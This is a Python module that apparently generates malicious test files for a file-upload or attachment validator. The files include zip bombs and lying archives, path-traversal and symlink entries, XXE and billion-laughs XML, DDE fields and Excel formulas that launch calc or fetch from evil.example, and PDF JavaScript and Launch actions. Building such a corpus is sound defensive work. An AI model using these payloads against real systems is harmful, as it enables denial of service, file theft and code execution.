"""Files an attacker would enclose, each named: archives that unpack without end or lie, documents that run or reach out.

Generated, not stored. A file is its name and its bytes; GOOD are those from which the others are made, and must be taken.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from itertools import product

File = tuple[str, bytes]
MIB = 2**20
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_TEXT = '<?xml version="1.0"?><d><p>Hợp đồng số 17/2026</p></d>'.encode()
_MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LINK_MODE, _CENTRAL, _LOCAL = 0o120777 << 16, b"PK\x01\x02", b"PK\x03\x04"


def office(kind: str, parts: Mapping[str, bytes] | None = None, level: int = 9) -> bytes:
    """A small document or workbook with these parts besides."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in {"[Content_Types].xml": _TYPES, _MAIN[kind]: _TEXT, **(parts or {})}.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def pdf(*objects: bytes) -> bytes:
    """A small PDF of these objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


_PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
_PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"
_PNG = _PNG_HEAD + struct.pack(">II", 40, 30) + b"\x08\x02\x00\x00\x00" + bytes(40)
_JPG = b"\xff\xd8\xff\xc0\x00\x11\x08" + struct.pack(">HH", 30, 40) + bytes(40)
_SHEET = (
    b"<?xml version='1.0'?><s><c><f>SUM(A1:A9)</f></c><c><f>IF(image1&gt;0,[1]s!A1,'a b'!C2)</f></c>"
    b'<c><f>HYPERLINK("#A1","xem")</f></c></s>'
)
GOOD: tuple[File, ...] = (
    ("hop-dong.docx", office("docx")),
    ("bang-ke.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": _SHEET})),
    ("hop-dong.pdf", _PDF),
    ("anh.png", _PNG),
    ("anh.jpg", _JPG),
)


def corpus() -> Iterator[tuple[str, File]]:
    """All of them, by what they try."""
    for kind in _MAIN:
        attacks = (_bombs, _liars, _nested, _paths, _macros, _outside, _formulas, _markup, _damaged)
        for name, content in (found for attack in attacks for found in attack(kind)):
            yield f"{kind}: {name}", (f"a.{kind}", content)
    for name, content in (*pdfs(), *_pictures(), *_two_faced(), *_other_kinds()):
        yield name, ("a.pdf", content)
    yield from _names()


def damaged(seed: int) -> Iterator[tuple[str, File]]:
    """Each of them again, and each good one, with some bytes changed: what their attack becomes, nobody knows."""
    chance = random.Random(seed)
    for name, (file_name, content) in (*corpus(), *((name, (name, good)) for name, good in GOOD)):
        changed = bytearray(content[: 2 * MIB])
        for _ in range(min(chance.randint(1, 8), len(changed))):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        yield f"{name}, damaged", (file_name, bytes(changed))


def _bombs(kind: str) -> Iterator[File]:
    for size in (3, 8, 19, 21, 64):
        yield f"{size} MB of zeros", office(kind, {"word/media/a.bin": bytes(size * MIB)})
        yield (
            f"{size} MB of zeros in ten parts",
            office(kind, {f"p{n}.bin": bytes(size * MIB // 10) for n in range(10)}),
        )
    yield "a million rows", office(kind, {"xl/worksheets/sheet1.xml": b"<s>" + b"<row r='1'/>" * 1_000_000 + b"</s>"})
    cells = b"".join(b"<c r='A%d'><v>%d</v></c>" % (n, n) for n in range(1_048_576))
    yield "a million rows with cells", office(kind, {"xl/worksheets/sheet1.xml": b"<s>" + cells + b"</s>"}, level=1)
    yield "21 MB that do not pack", office(kind, {"noise.bin": _noise(21 * MIB)}, level=1)
    for many in (1_001, 20_000):
        yield f"{many} parts", office(kind, {f"{n}": b"" for n in range(many)})


def _noise(size: int) -> bytes:
    """Bytes that pack to about a tenth, so that the ratio says nothing."""
    block = b"".join(zlib.crc32(b"%d" % n).to_bytes(4, "big") for n in range(16_384))
    return b"".join(block[:6_000] + bytes(54_000) for _ in range(size // 60_000 + 1))


def _liars(kind: str) -> Iterator[File]:
    """The directory says less than comes out."""
    for size, said in product((8, 30), (0, 10, 4_096, MIB)):
        bomb = office(kind, {"big.bin": bytes(size * MIB)})
        yield f"{size} MB that say {said}", bomb.replace(struct.pack("<I", size * MIB), struct.pack("<I", said))
    honest = office(kind, {"a.bin": b"a" * 1_000})
    at = honest.index(_CENTRAL)
    yield "a packed size larger than the file", honest[: at + 20] + struct.pack("<I", 2**31) + honest[at + 24 :]
    yield "an unpacked size of 4 GB", honest[: at + 24] + struct.pack("<I", 2**32 - 2) + honest[at + 28 :]
    yield "parts that overlap", _overlapping(kind)
    yield "a wrong checksum", honest[: at + 16] + b"\x01\x02\x03\x04" + honest[at + 20 :]


def _overlapping(kind: str) -> bytes:
    """Five hundred entries of the directory that all point to the same packed part."""
    honest = office(kind, {"big.bin": _noise(2 * MIB)})
    start = honest.rindex(_CENTRAL)
    entry, tail = honest[start : honest.rindex(b"PK\x05\x06")], honest[honest.rindex(b"PK\x05\x06") :]
    more = b"".join(entry.replace(b"big.bin", b"b%06d" % number) for number in range(500))
    first = struct.unpack("<I", tail[16:20])[0]
    directory = honest[first : start + len(entry)] + more
    counts = struct.pack("<HHII", 503, 503, len(directory), first)
    return honest[:first] + directory + tail[:8] + counts + tail[20:]


def _nested(kind: str) -> Iterator[File]:
    inner = office("docx")
    others = {
        "zip": inner, "empty zip": b"PK\x05\x06" + bytes(18), "rar": b"Rar!\x1a\x07\x00", "7z": b"7z\xbc\xaf\x27\x1c",
        "gzip": b"\x1f\x8b\x08", "bzip2": b"BZh9", "xz": b"\xfd7zXZ\x00", "cabinet": b"MSCF", "OLE": b"\xd0\xcf\x11\xe0",
    }  # fmt: skip
    for name, start in others.items():
        yield f"{name} inside", office(kind, {"word/embeddings/a.bin": start + bytes(100)})
    forty_two = {f"{n}.zip": office("docx", {"z": bytes(3 * MIB)}) for n in range(16)}
    yield "42.zip", office(kind, forty_two)


def _paths(kind: str) -> Iterator[File]:
    names = (
        "../evil", "../../../../etc/passwd", "/etc/passwd", "a/../../b", "C:\\evil.exe", "\\\\host\\share", "a\\..\\b",
        "C:evil", "word/..", "tab\tname", "line\nname", "escape\x1b[2J", "bell\x07",
    )  # fmt: skip
    for name in names:
        yield f"a part named {name!r}", office(kind, {name: b"x"})
    yield "a name twice", office(kind, {"a.bin": b"x", "A.BIN": b"y"})
    made = io.BytesIO(office(kind))
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo("link")
        link.create_system, link.external_attr = 3, _LINK_MODE
        archive.writestr(link, "/etc/passwd")
    yield "a symbolic link", made.getvalue()
    locked = bytearray(office(kind))
    locked[locked.index(_CENTRAL) + 8] |= 1
    locked[locked.index(_LOCAL) + 6] |= 1
    yield "a password", bytes(locked)


def _macros(kind: str) -> Iterator[File]:
    for name in ("word/vbaProject.bin", "xl/vbaProject.bin", "VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"):
        yield f"macros in {name}", office(kind, {name: b"<a/>"})
    for main in ("word.document", "excel.sheet", "excel.template", "powerpoint.presentation"):
        types = f'<Types><Override ContentType="application/vnd.ms-{main}.macroEnabled.main+xml"/></Types>'
        yield f"macros of {main}", office(kind, {"[Content_Types].xml": types.encode()})


def _outside(kind: str) -> Iterator[File]:
    folder = _MAIN[kind].partition("/")[0]
    for relation in (
        "attachedTemplate",
        "oleObject",
        "image",
        "frame",
        "subDocument",
        "externalLink",
        "package",
        "control",
    ):
        for mode in ("External", "EXTERNAL"):
            row = f'<R TargetMode="{mode}" Type="{_RELATION}/{relation}" Target="http://evil.example/"/>'
            yield f"{relation} {mode}", office(kind, {f"{folder}/_rels/a.xml.rels": f"<Rs>{row}</Rs>".encode()})
    for name in ("xl/externalLinks/externalLink1.xml", "xl/EXTERNALLINKS/a.xml"):
        yield f"part {name}", office(kind, {name: b"<a/>"})


def _formulas(kind: str) -> Iterator[File]:
    """Cells and fields that fetch or start something when somebody opens the file."""
    if kind == "docx":
        for field in (
            'DDEAUTO c:\\\\cmd.exe "/k calc"',
            "dde excel book",
            'INCLUDETEXT "http://evil.example/"',
            "DATABASE x",
        ):
            word, rest = field[:3], field[3:]
            spread = f"<w:r><w:instrText>{word}</w:instrText></w:r><w:r><w:instrText>{rest}</w:instrText></w:r>"
            simple = f"<w:fldSimple w:instr='{field}'/>"
            for how, xml in {
                "in one text": f"<w:instrText>{field}</w:instrText>",
                "spread": spread,
                "simple": simple,
            }.items():
                part = f"<w:d xmlns:w='urn:w'>{xml}</w:d>".encode()
                yield f"field {field[:8]} {how}", office(kind, {"word/footer1.xml": part})
        return
    calls = (
        'WEBSERVICE("http://evil.example/"&amp;A1)', "cmd|'/C calc'!A0", "&#87;EBSERVICE(A1)", "_xlfn.WEBSERVICE(A1)",
        'RTD("evil.server",,"a")', 'CALL("urlmon","URLDownloadToFileA","JJCCJJ")', 'REGISTER.ID("k","b")', 'EXEC("calc")',
        "'[http://evil.example/b.xlsx]s'!A1", "'\\\\host\\share\\[b.xlsx]s'!A1", '_xlfn.IMAGE("http://evil.example/")',
        "web<!-- -->service (A1)", 'SQL.REQUEST("d")', "msexcel|'..\\b.xlsx'!A1",
    )  # fmt: skip
    for call in calls:
        sheet = f"<?xml version='1.0'?><s xmlns='urn:s'><c><f>{call}</f></c></s>".encode()
        yield f"formula {call}", office(kind, {"xl/worksheets/sheet1.xml": sheet})
        book = f"<?xml version='1.0'?><b xmlns='urn:s'><definedName name='Auto_Open'>{call}</definedName></b>".encode()
        yield f"name for {call}", office(kind, {"xl/names.xml": book})


def _markup(kind: str) -> Iterator[File]:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    for name, part in {
        "billion laughs": b'<!DOCTYPE d [<!ENTITY l0 "ha">' + laughs + b"]><d>&l9;</d>",
        "an outside entity": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        "an outside DTD": b'<!DOCTYPE d SYSTEM "http://evil.example/d"><d/>',
        "a document type in UTF-16": "<?xml version='1.0'?><!DOCTYPE d []><d/>".encode("utf-16"),
        "101 levels": b"<a>" * 101 + b"</a>" * 101,
        "100,000 levels": b"<a>" * 100_000,
        "an XHTML page": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
        "a drawing that runs": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        "an end too few": b"<a><b></a>",
    }.items():
        yield f"{name} in a part", office(kind, {"custom/item1.xml": part})


def _damaged(kind: str) -> Iterator[File]:
    whole = office(kind, {"a.bin": b"a" * 1_000})
    for share in (3, 5, 9):
        yield f"cut after {share} tenths", whole[: len(whole) * share // 10]
    yield "its directory zeroed", whole.replace(_CENTRAL, b"\0\0\0\0")
    broken = bytearray(office(kind, {"a.bin": b"abcdefghij" * 500}))
    at = broken.index(b"a.bin") + 9
    broken[at : at + 4] = b"\xff\xff\xff\xff"
    yield "a part that does not unpack", bytes(broken)


def pdfs() -> Iterator[File]:
    """PDFs that run something, unpack without end or have none."""
    names = {"JavaScript": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "Launch": b"<< /S /Launch /F (cmd.exe) >>",
             "RichMedia": b"<< /Subtype /RichMedia >>"}  # fmt: skip
    for name, thing in names.items():
        spelled = thing.replace(b"/" + name.encode(), b"/#%02x" % ord(name[0]) + name[1:].encode())
        upper = thing.replace(b"/" + name.encode(), b"/" + b"".join(b"#%02X" % ord(each) for each in name))
        for how, found in {"plain": thing, "spelled with #": spelled, "spelled all with #": upper}.items():
            yield f"PDF {name} {how}", pdf(found)
            yield f"PDF {name} {how} in an object stream", pdf(_stream(b"1 0 " + found))
            yield f"PDF {name} {how} after a comment in an object stream", pdf(_stream(b"% x\n1 0 " + found))
        yield f"PDF {name} in a later revision", _PDF + pdf(thing)[9:]
    yield "PDF with a password", pdf(b"<< /Encrypt 9 0 R >>")
    yield "PDF with a password spelled with #", pdf(b"<< /#45ncrypt 9 0 R >>")
    for size in (21, 64):
        yield f"PDF stream of {size} MB", pdf(_stream(b"1 0 " + b" " * size * MIB))
        yield f"PDF of {size} streams of a megabyte", pdf(*(_stream(b"1 0 " + b" " * MIB) for _ in range(size)))
    yield "PDF of 20,001 streams", pdf(*[b"stream\nx\nendstream"] * 20_001)
    packed = _stream(b"1 0 " + b"objects " * 2_000)
    yield (
        "PDF object stream broken half-way",
        pdf(packed[: len(packed) // 2 + 30] + b"\xff\xff\xff\xff" * 4 + packed[-13:]),
    )
    yield "PDF without an end", _PDF[:-7]
    yield "PDF cut in the middle", _PDF[: len(_PDF) // 2]
    yield "PDF not at the start", b"MZ\x90\0" + _PDF
    yield "PDF behind a web page", b"<html><script>" + _PDF


def _stream(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Type /ObjStm /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)


def _pictures() -> Iterator[File]:
    for width, height in ((2**31 - 1, 2**31 - 1), (100_001, 1_000), (0, 30), (40, 0)):
        yield f"PNG of {width} × {height}", _PNG_HEAD + struct.pack(">II", width, height) + bytes(40)
    for width, height in ((65_535, 65_535), (10_001, 10_000), (0, 30), (40, 0)):
        yield (
            f"JPG of {width} × {height}",
            b"\xff\xd8\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + bytes(40),
        )
    yield "PNG without a header", b"\x89PNG\r\n\x1a\n" + bytes(60)
    yield "JPG without a frame", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(60)
    yield "JPG of segments without end", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 20_000


def _two_faced() -> Iterator[File]:
    archive = office("docx")
    for name, first in {"PDF": _PDF, "PNG": _PNG, "JPG": _JPG, "XML": _TEXT}.items():
        yield f"{name} with an archive behind", first + archive
    yield "PNG with a PDF in front", _PNG + _PDF
    yield "XML with a PDF inside", b"<?xml version='1.0'?><a>" + _PDF + b"</a>"
    yield "a program with an archive behind", b"MZ\x90\0" + archive


def _other_kinds() -> Iterator[File]:
    starts = {
        "nothing": b"", "a Windows program": b"MZ\x90\0", "a Linux program": b"\x7fELF", "a script": b"#!/bin/sh\n",
        "a web page": b"<!doctype html>", "a drawing": b"<svg xmlns='http://www.w3.org/2000/svg'/>", "RAR": b"Rar!\x1a\x07",
        "7z": b"7z\xbc\xaf\x27\x1c", "gzip": b"\x1f\x8b\x08", "old Office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "RTF": b"{\\rtf1", "GIF": b"GIF89a", "a shortcut": b"L\0\0\0\x01\x14\x02\0", "Java": b"\xca\xfe\xba\xbe",
        "PostScript": b"%!PS-Adobe-3.0", "a plain text": b"xin chao", "an archive of texts": _LOCAL,
    }  # fmt: skip
    for name, start in starts.items():
        yield name, start + (b"\0" * 50 if start else b"")
    yield "a byte more than 10 MB", b"%PDF-1.7\n" + bytes(10 * MIB)
    yield "100 MB", b"%PDF-1.7\n" + bytes(100 * MIB)


def _names() -> Iterator[tuple[str, File]]:
    for name in ("", "a" * 201, "a\0.pdf", "a\n.pdf", "a\x1b[31m.pdf", "hop\u202efdp.exe", "a\u2028.pdf", "a\x7f.pdf"):
        yield f"a good file named {name[:20]!r}", (name, _PDF)
